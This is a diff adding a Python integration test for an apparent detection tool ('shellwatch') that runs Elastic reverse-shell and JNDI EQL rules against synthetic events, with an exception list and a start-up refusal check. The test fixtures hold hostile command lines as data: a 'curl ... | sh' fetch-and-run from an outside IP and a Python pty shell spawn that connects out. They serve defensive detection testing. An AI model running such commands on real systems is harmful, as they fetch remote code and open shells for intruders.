@@ -1,0 +1,158 @@
+"""The operator's EQL rules in the worker on the real broker: three rule files from Elastic's detection-rules run
+verbatim (``SHELLWATCH_RULES``) beside the bundled rules, with an exception list, and the alerts topic holds
+exactly what the offline engines raise on the same events; a rule the worker cannot run stops it at start-up."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import orjson
+import pytest
+
+from shellwatch.core.rule_runner import RuleRunner, RunnerConfig
+from shellwatch.rules.eql_rule import load_eql_rules
+from shellwatch.samples.ecs_factory import connection, entity_id, execution
+from tests.integration.deployment import LIVE, Deployment
+from tests.shared import offline_alert_ids
+
+VENDORED = Path(__file__).parents[1] / "rules" / "elastic"
+RULE_FILES = (
+    "execution_shell_via_java_revshell_linux.toml",  # Potential Reverse Shell via Java (5a3d5447)
+    "execution_suspicious_java_netcon_childproc.toml",  # Potential JAVA/JNDI Exploitation Attempt (c3f5e1d8)
+    "execution_shell_via_lolbin_interpreter_linux.toml",  # Reverse Shell via Suspicious Child Process (76e4d92b)
+)
+JNDI = "c3f5e1d8-910e-43b4-8d44-d748e498ca86"
+EXCEPTIONS = f"""
+[exception_list]
+name = "Scanner lab"
+rule_ids = ["{JNDI}"]
+
+[[exception_list.items]]
+name = "the lab's LDAP honeypot host"
+entries = [{{ field = "host.id", operator = "included", type = "match", value = "lab-honeypot" }}]
+"""
+
+
+@pytest.fixture
+def rules_dir(tmp_path: Path) -> Path:
+    directory = tmp_path / "rules"
+    directory.mkdir()
+    for name in RULE_FILES:
+        shutil.copy(VENDORED / name, directory / name)
+    (directory / "lab_exceptions.toml").write_text(EXCEPTIONS)
+    return directory
+
+
+@pytest.fixture
+def deployment(kafka_bootstrap: str, tmp_path: Path, rules_dir: Path) -> Iterator[Deployment]:
+    deployed = Deployment(kafka_bootstrap, tmp_path)
+    deployed.extra_env["SHELLWATCH_RULES"] = str(rules_dir)
+    yield deployed
+    deployed.stop()
+
+
+def jndi(host: str, t_ms: int) -> list[dict[str, Any]]:
+    """A Java process reaches an LDAP port, then spawns a shell: the JNDI rule, and the Java reverse-shell rules."""
+    return [
+        connection(
+            ts_ms=t_ms, host_id=host, pid=4242, dest_ip="185.220.101.4", event_id=f"{host}-ldap", dest_port=1389
+        ),
+        execution(
+            ts_ms=t_ms + 800,
+            host_id=host,
+            pid=31337,
+            parent_pid=4242,
+            event_id=f"{host}-shell",
+            args=["/bin/bash", "-c", "curl -s http://185.220.101.4/x | sh"],
+        ),
+    ]
+
+
+def python_pty(host: str, t_ms: int) -> list[dict[str, Any]]:
+    """A shell starts Python with a pty spawn, and that Python process connects out within a second."""
+    spawn = execution(
+        ts_ms=t_ms,
+        host_id=host,
+        pid=777,
+        parent_pid=700,
+        event_id=f"{host}-pty",
+        name="python3",
+        args=["/usr/bin/python3", "-c", "import pty; pty.spawn('/bin/sh')"],
+        parent_executable="/bin/bash",
+        parent_args=["/bin/bash"],
+    )
+    spawn["event"]["type"] = ["start"]
+    spawn["process"]["entity_id"] = entity_id(host, 777)  # the process its connection names
+    out = connection(
+        ts_ms=t_ms + 400,
+        host_id=host,
+        pid=777,
+        dest_ip="185.220.101.9",
+        event_id=f"{host}-out",
+        executable="/usr/bin/python3",
+    )
+    return [spawn, out]
+
+
+def expected_ids(docs: list[dict[str, Any]], rules_dir: Path) -> set[str]:
+    """What the offline engines raise: the bundled rules, and ``detect --rules`` on the operator's files."""
+    loaded = load_eql_rules([rules_dir])
+    assert loaded.problems == () and len(loaded.rules) == len(RULE_FILES)
+    runner = RuleRunner(loaded.rules, RunnerConfig())
+    alerts: list[dict[str, Any]] = []
+    for doc in sorted(docs, key=lambda d: d["@timestamp"]):
+        alerts.extend(runner.process(orjson.dumps(doc), 0).alerts)
+    alerts.extend(runner.flush(0))
+    return offline_alert_ids(docs) | {a["event"]["id"] for a in alerts}
+
+
+def test_vendored_rules_run_verbatim_beside_the_bundled_ones(deployment: Deployment, rules_dir: Path) -> None:
+    docs = [
+        *jndi("host-jndi", LIVE),
+        *jndi("lab-honeypot", LIVE + 100),  # excepted from the JNDI rule only
+        *python_pty("host-pty", LIVE + 200),
+        *python_pty("host-pty-2", LIVE + 300),
+    ]
+    expected = expected_ids(docs, rules_dir)
+    deployment.start_worker()
+    deployment.wait_ready()
+    deployment.produce(docs)
+    alerts = deployment.alerts_for(len(expected))
+    got = sorted((a["rule"]["id"][:8], a["host"]["id"]) for a in alerts)
+    assert {a["event"]["id"] for a in alerts} == expected, (got, deployment.log_digest())
+    assert len(alerts) == len(expected)  # no duplicates
+    by_rule: dict[str, set[str]] = {}
+    for alert in alerts:
+        by_rule.setdefault(alert["rule"]["id"], set()).add(alert["host"]["id"])
+    assert by_rule[JNDI] == {"host-jndi"}  # the honeypot is excepted
+    assert by_rule["5a3d5447-31c9-409a-aed1-72f9921594fd"] == {"host-jndi", "lab-honeypot"}
+    assert by_rule["76e4d92b-61c1-4a95-ab61-5fd94179a1ee"] == {"host-pty", "host-pty-2"}
+    assert by_rule["potential-reverse-shell-via-java"] == {"host-jndi", "lab-honeypot"}
+    log = deployment.workers[0].log_path.read_text(errors="replace")
+    assert f"running rule {JNDI} ({rules_dir / RULE_FILES[1]}) from SHELLWATCH_RULES" in log
+
+
+def test_a_rule_that_is_not_host_local_stops_the_worker_with_the_reason(tmp_path: Path) -> None:
+    source = (VENDORED / RULE_FILES[0]).read_text().replace("sequence by host.id", "sequence by user.name", 1)
+    by_user = source.replace("by process.parent.entity_id", "by process.name").replace(
+        "by process.entity_id", "by process.name"
+    )
+    (tmp_path / "by_user.toml").write_text(by_user)
+    env = {"SHELLWATCH_RULES": str(tmp_path), "KAFKA_BOOTSTRAP_SERVERS": "127.0.0.1:9"}
+    done = subprocess.run(
+        [sys.executable, "-m", "shellwatch", "worker"],
+        env={**os.environ, **env},
+        capture_output=True,
+        text=True,
+        timeout=60,
+        check=False,
+    )
+    assert done.returncode == 2
+    assert "SHELLWATCH_RULES: refused: rule 5a3d5447-31c9-409a-aed1-72f9921594fd" in done.stderr
+    assert "so one sequence may span hosts, and the worker partitions by host.id" in done.stderr
